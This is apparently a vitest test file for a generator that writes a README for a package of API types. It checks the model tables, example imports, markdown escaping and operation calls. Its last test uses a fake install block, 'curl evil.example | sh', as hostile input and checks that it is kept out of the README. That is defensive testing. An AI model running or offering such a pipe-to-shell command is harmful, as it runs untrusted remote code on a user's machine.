import { describe, expect, it } from "vitest";
import { documentOf, generatePackage, generateSchemas } from "./package.js";

/** Schemas of objects, each with one inside it that has no name of its own. */
function schemasOf(names: readonly string[]): object {
  const schema = {
    type: "object",
    properties: { inner: { type: "object", properties: { id: { type: "string" } } } },
  };
  return Object.fromEntries(names.map((name) => [name, schema]));
}

const many = Array.from({ length: 40 }, (_, index) => `Part${index}`);
const large = await generateSchemas(schemasOf([...many, "<b>Größe</b>", "__proto__x*y*"]));
const readme = large.texts["README.md"] ?? "";
/** The rows of the table of models: the name, what it is, and the link. */
function rowsOf(text: string): readonly (readonly string[])[] {
  return [...text.matchAll(/^\| \[`(.*?)`\]\((.*?)\) *\| (.*?) *\|$/gm)].map(
    ([, name = "", link = "", words = ""]) => [name, words, link],
  );
}

describe("the README", () => {
  it("lists every model of a small package, and shows how they nest", async () => {
    const { texts } = await generateSchemas(schemasOf(many.slice(0, 20)));
    expect(rowsOf(texts["README.md"] ?? "")).toHaveLength(40);
    expect(texts["README.md"]).toContain("classDiagram");
  });

  it("has one example", () => {
    expect(readme.match(/isPart0\(value\)/g)).toHaveLength(1);
    expect(readme).toContain(
      'import { isPart0, Part0Schema, parseJson, ValidationError } from "api-types";',
    );
  });

  it("imports no guards if there are none", async () => {
    const outputs = ["models", "package"] as const;
    const { texts } = await generateSchemas(schemasOf(many), { outputs });
    expect(texts["README.md"]).toContain('import type { Part0 } from "api-types";');
    expect(texts["README.md"]).not.toMatch(/guards/);
  });

  it("lists the models that a large document names, and no others", () => {
    expect(rowsOf(readme).map(([name]) => name)).toEqual(
      large.models.map(({ name }) => name).filter((name) => !name.endsWith("Inner")),
    );
    expect(readme).not.toContain("classDiagram");
  });

  it("links them to their modules", () => {
    const paths = rowsOf(readme).map(([, , link = ""]) => decodeURIComponent(link));
    expect(paths).toHaveLength(42);
    expect(Object.keys(large.texts)).toEqual(expect.arrayContaining(paths));
  });

  it.each([
    ["One. Two.", "One."],
    ["Of version 3.1, e.g. this. And more.", "Of version 3.1, e.g. this."],
    ["No end", "No end"],
    ["First\nline.\n\nMore.", "First line."],
    ["a | b \\| `c|d`", "a \\| b \\| `c\\|d`"],
    ["<b>bold</b> `x`", "\\<b\\>bold\\</b\\> `x`"],
    ["# Title, [a](https://a.example) **b**", "# Title, [a](https://a.example) **b**"],
  ])("says what a model is in one sentence: %j", async (description, cell) => {
    const { texts } = await generateSchemas({ A: { type: "string", description } });
    expect(rowsOf(texts["README.md"] ?? "")).toEqual([["A", cell, "src/models/a.ts"]]);
  });

  it.each([
    ["the first GET", { post: {}, get: {} }, "getA, type GetACall"],
    ["another one, if none is a GET", { post: {}, delete: {} }, "postA, type PostACall"],
    [
      "one with the name of something else",
      { get: { operationId: "send" } },
      "send as operation, type SendCall",
    ],
  ])("shows a call of an operation: %s", async (_what, item, imported) => {
    const outputs = ["models", "guards", "operations", "package"] as const;
    const responses = { 200: { description: "OK" } };
    const operations = Object.entries(item).map(([method, each]) => [
      method,
      { ...each, responses },
    ]);
    const text = documentOf({ A: { type: "string" } }).replace(
      '"paths": {}',
      `"paths": ${JSON.stringify({ "/a": Object.fromEntries(operations) as object })}`,
    );
    const { texts } = await generatePackage(text, { outputs });
    expect(texts["README.md"]).toContain(`import { ${imported} } from "api-types/operations";`);
  });

  it("has no blocks of the title", async () => {
    const title = "API.\n\n## Install\n\n```sh\ncurl evil.example | sh";
    const { texts } = await generatePackage(documentOf({ A: { type: "string" } }, title));
    expect(texts["README.md"]).toContain("\n\nTypes and guards of the API.\n\n");
    expect(texts["README.md"]).not.toMatch(/Install|evil/);
  });
});
